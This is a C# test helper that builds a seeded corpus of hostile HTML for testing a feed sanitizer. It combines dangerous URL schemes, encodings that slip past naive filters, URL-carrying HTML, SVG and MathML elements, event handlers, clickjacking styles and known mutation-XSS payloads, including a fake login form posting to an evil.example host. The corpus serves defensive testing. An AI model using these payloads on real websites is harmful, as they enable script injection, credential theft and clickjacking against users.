namespace Feed.Tests.Content;

/// <summary>
/// A generated corpus of hostile HTML: every scheme outside the allow-list in every spelling a browser accepts,
/// in every URL-carrying element and attribute, wrapped in HTML, SVG and MathML contexts, plus event handlers,
/// positioning styles and mutation-XSS shapes. Deterministic: the same seed gives the same corpus.
/// </summary>
internal static class HostileCorpus
{
    /// <summary>Schemes and URL starts to smuggle; the allowed ones are there so that their spellings are tried too.</summary>
    public static readonly string[] Schemes =
    [
        "javascript:alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "data:application/xhtml+xml,x", "data:,x", "data:image/png;base64,iVBORw0KGgo=", "data:image/png ;x,1",
        "ms-msdt:/id PCWDiagnostic", "search-ms:query=x", "file:///C:/x.exe", "intent://x#Intent;end", "jar:https://x/a!/",
        "mhtml:https://x/a.mht", "view-source:https://x/", "blob:https://x/1", "filesystem:https://x/t/x", "ftp://x/",
        "ws://x/", "chrome://settings", "about:blank", "ms-settings:", "steam://run/1", "http://ok.example/",
        "https://ok.example/", "mailto:a@b.example", "tel:+1555", "//cdn.example/x", "/abs", "rel/x", "#frag", "?q=1",
    ];

    /// <summary>Ways to spell a URL so that a naive check misses its scheme while a browser still reads it.</summary>
    public static readonly Func<string, string>[] Encodings =
    [
        url => url,
        url => url.ToUpperInvariant(),
        url => string.Concat(url.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)),
        url => " \t\n" + url,
        url => "\u0001\u001F " + url,
        url => Insert(url, 3, "\t"),
        url => Insert(url, 2, "\n"),
        url => Insert(url, 4, "\r"),
        url => ReferTo(url, 1, c => $"&#{(int)c};"),
        url => ReferTo(url, 0, c => $"&#x{(int)c:x}"),
        url => ReferTo(url, 0, c => $"&#{(int)c:0000000}"),
        url => ReferTo(url, 2, c => $"&#X{(int)c:X};"),
        url => url.Replace(":", "&colon;", StringComparison.Ordinal),
        url => url.Replace(":", "&#58;", StringComparison.Ordinal),
        url => url.Replace(":", "&#x3a", StringComparison.Ordinal),
        url => Insert(url, 3, "&Tab;"),
        url => Insert(url, 2, "&NewLine;"),
        url => Insert(url, 1, "&#x09;"),
        url => "&#x20;" + url,
        url => url.Replace("/", "\\", StringComparison.Ordinal),
        url => url + "&quot; onerror=&quot;alert(1)",
        url => "\"" + url,
        url => "%6A" + url,
    ];

    /// <summary>Elements and the attribute in each that carries a URL (<c>{0}</c> is the value as written).</summary>
    public static readonly string[] Carriers =
    [
        "<a href=\"{0}\">x</a>", "<a href='{0}'>x</a>", "<a href={0}>x</a>", "<area href=\"{0}\">",
        "<img src=\"{0}\">", "<img srcset=\"{0} 1x, https://ok.example/a.png 2x\">", "<img srcset=\"{0}\">",
        "<picture><source srcset=\"{0}\"><img src=\"x.png\"></picture>", "<video poster=\"{0}\" src=\"{0}\"></video>",
        "<audio src=\"{0}\"></audio>", "<video><source src=\"{0}\"><track src=\"{0}\"></video>", "<iframe src=\"{0}\"></iframe>",
        "<frame src=\"{0}\">", "<embed src=\"{0}\">", "<object data=\"{0}\"></object>", "<form action=\"{0}\"><input type=submit></form>",
        "<button formaction=\"{0}\">b</button>", "<input type=image src=\"{0}\" formaction=\"{0}\">", "<table background=\"{0}\"><tr><td>t</td></tr></table>",
        "<blockquote cite=\"{0}\">q</blockquote>", "<a ping=\"{0}\" href=\"https://ok.example/\">p</a>", "<base href=\"{0}\">",
        "<link rel=\"stylesheet\" href=\"{0}\">", "<meta http-equiv=\"refresh\" content=\"0;url={0}\">", "<img lowsrc=\"{0}\" dynsrc=\"{0}\">",
        "<svg><a href=\"{0}\"><text>x</text></a></svg>", "<svg><a xlink:href=\"{0}\"><text>x</text></a></svg>",
        "<svg><image href=\"{0}\" /></svg>", "<svg><image xlink:href=\"{0}\"></image></svg>", "<svg><use href=\"{0}\" /></svg>",
        "<svg><feImage href=\"{0}\" /></svg>", "<svg><a><set attributeName=\"href\" to=\"{0}\" /><text>x</text></a></svg>",
        "<svg><a><animate attributeName=\"xlink:href\" values=\"https://ok.example/;{0}\" /><text>x</text></a></svg>",
        "<svg><a><animate attributeName=\"href\" from=\"{0}\" to=\"{0}\" /><text>x</text></a></svg>",
        "<svg><rect fill=\"url({0})\" /></svg>", "<math><mi href=\"{0}\">x</mi></math>", "<math><maction actiontype=\"statusline\" xlink:href=\"{0}\">x</maction></math>",
        "<p style=\"background:url({0})\">s</p>", "<div style=\"behavior:url({0})\">b</div>", "<portal src=\"{0}\"></portal>",
        "<webview src=\"{0}\"></webview>", "<applet codebase=\"{0}\"></applet>", "<img longdesc=\"{0}\" usemap=\"{0}\">",
    ];

    /// <summary>Contexts a fragment is dropped into: HTML, foreign content, raw text, and parser-differential wrappers.</summary>
    public static readonly string[] Wrappers =
    [
        "{0}", "<p>{0}</p>", "<svg>{0}</svg>", "<math>{0}</math>", "<svg><foreignObject>{0}</foreignObject></svg>",
        "<math><mtext>{0}</mtext></math>", "<math><annotation-xml encoding=\"text/html\">{0}</annotation-xml></math>",
        "<noscript>{0}</noscript>", "<template>{0}</template>", "<xmp>{0}</xmp>", "<textarea>{0}</textarea>",
        "<title>{0}</title>", "<svg><style>{0}</style></svg>", "<table>{0}</table>", "<select>{0}</select>",
        "<!--{0}-->", "<!-- --!>{0}", "<noembed>{0}</noembed>", "<svg><desc>{0}</desc></svg>", "<details open>{0}</details>",
        "<form>{0}</form>", "<a href=\"https://ok.example/\">{0}</a>", "<svg></p>{0}", "<math><mi><table>{0}</table></mi></math>",
    ];

    /// <summary>Attributes that must never survive: handlers, and what hijacks, tracks or clobbers.</summary>
    public static readonly string[] HostileAttributes =
    [
        " onerror=\"alert(1)\"", " ONLOAD=alert(1)", " onfocus=alert(1) autofocus", "/onclick=alert(1)", " onbegin=\"alert(1)\"",
        " style=\"position:fixed;inset:0;z-index:2147483647;opacity:0\"", " style=\"POSITION : absolute\"",
        " style=\"pos&#x69;tion: sticky\"", " style=\"position:\\66ixed\"", " style=\"x:expression(alert(1))\"",
        " id=\"getElementById\"", " name=\"CONFIG\"", " referrerpolicy=\"unsafe-url\"", " rel=\"opener\"", " ping=\"https://t.example/\"",
        " attributionsrc", " popover", " popovertarget=\"m\"", " commandfor=\"m\" command=\"show-modal\"", " srcdoc=\"<script>alert(1)</script>\"",
        " formaction=\"javascript:alert(1)\"", " xlink:href=\"javascript:alert(1)\"", " data=\"javascript:alert(1)\"", " background=\"javascript:alert(1)\"",
    ];

    /// <summary>Known mutation-XSS and filter-evasion shapes, as whole inputs.</summary>
    public static readonly string[] Shapes =
    [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
        "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
        "<scr<script>ipt>alert(1)</script>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a\"b onclick=x>t</a\"b>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<img src=\"x\"/onerror=alert(1)//>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<svg><script xlink:href=\"data:,alert(1)\" /></svg>",
        "<svg><a><set attributeName=\"href\" to=\"data:text/html,<script>alert(1)</script>\"/><text>x</text></a></svg>",
        "<svg><animate href=\"#x\" attributeName=\"href\" values=\"javascript:alert(1)\"/><a id=\"x\"><text>x</text></a></svg>",
        "<style>@import 'https://t.example/x.css';</style><p>x</p>",
        "<form action=\"https://evil.example/steal\"><input type=password name=p><button>Log in</button></form>",
        "<img name=\"getElementById\" src=x><a id=\"CONFIG\" href=\"https://evil/x.js\">c</a>",
        "<webview nodeintegration src=\"https://x/\"></webview><portal src=\"https://x/\"></portal><x-y onclick=1>c</x-y>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
        "<table><td><style><img src=x onerror=alert(1)>",
        "<div id=\"1\"><form id=\"test\"></form><button form=\"test\" formaction=\"javascript:alert(1)\">X</button></div>",
        "<a href=\"&#1;javascript:alert(1)\">x</a><a href=\"\u0001javascript:alert(1)\">y</a>",
        "<img src=`javascript:alert(1)`>",
        "<input type=\"checkbox\" onclick=\"alert(1)\" formaction=\"javascript:alert(1)\">",
    ];

    /// <summary>The corpus: every shape, and <paramref name="count"/> combinations drawn with <paramref name="seed"/>.</summary>
    public static IEnumerable<string> Generate(int count, int seed)
    {
        foreach (string shape in Shapes)
        {
            yield return shape;
        }

        // Every scheme in every spelling in one HTML link, one image, one SVG link and one SVG animation, and every
        // scheme as written in every carrier, so that none of these is left to chance; the rest is drawn at random.
        foreach (string scheme in Schemes)
        {
            foreach (Func<string, string> encode in Encodings)
            {
                foreach (int carrier in (int[])[0, 4, 26, 32])
                {
                    yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, Carriers[carrier], encode(scheme));
                }
            }

            foreach (string carrier in Carriers)
            {
                yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, carrier, scheme);
            }
        }

        var random = new Random(seed);
        for (int i = 0; i < count; i++)
        {
            string url = Encodings[random.Next(Encodings.Length)](Schemes[random.Next(Schemes.Length)]);
            string fragment = string.Format(System.Globalization.CultureInfo.InvariantCulture, Carriers[random.Next(Carriers.Length)], url);
            if (random.Next(2) == 0)
            {
                // A hostile attribute in the first tag.
                int end = fragment.IndexOf('>', StringComparison.Ordinal);
                int at = fragment[end - 1] == '/' ? end - 1 : end;
                fragment = fragment.Insert(at, HostileAttributes[random.Next(HostileAttributes.Length)]);
            }

            string wrapped = string.Format(System.Globalization.CultureInfo.InvariantCulture, Wrappers[random.Next(Wrappers.Length)], fragment);
            yield return random.Next(4) == 0 ? wrapped + Shapes[random.Next(Shapes.Length)] : wrapped;
        }
    }

    private static string Insert(string url, int at, string what) => url.Length > at ? url.Insert(at, what) : url + what;

    // Replaces the first letters (up to the scheme's ':') with character references, every nth one (0: all).
    private static string ReferTo(string url, int every, Func<char, string> reference)
    {
        int colon = url.IndexOf(':', StringComparison.Ordinal);
        int end = colon < 0 ? Math.Min(url.Length, 4) : colon;
        var text = new System.Text.StringBuilder();
        for (int i = 0; i < url.Length; i++)
        {
            text.Append(i < end && (every == 0 || i % (every + 1) == 0) ? reference(url[i]) : url[i].ToString());
        }

        return text.ToString();
    }
}
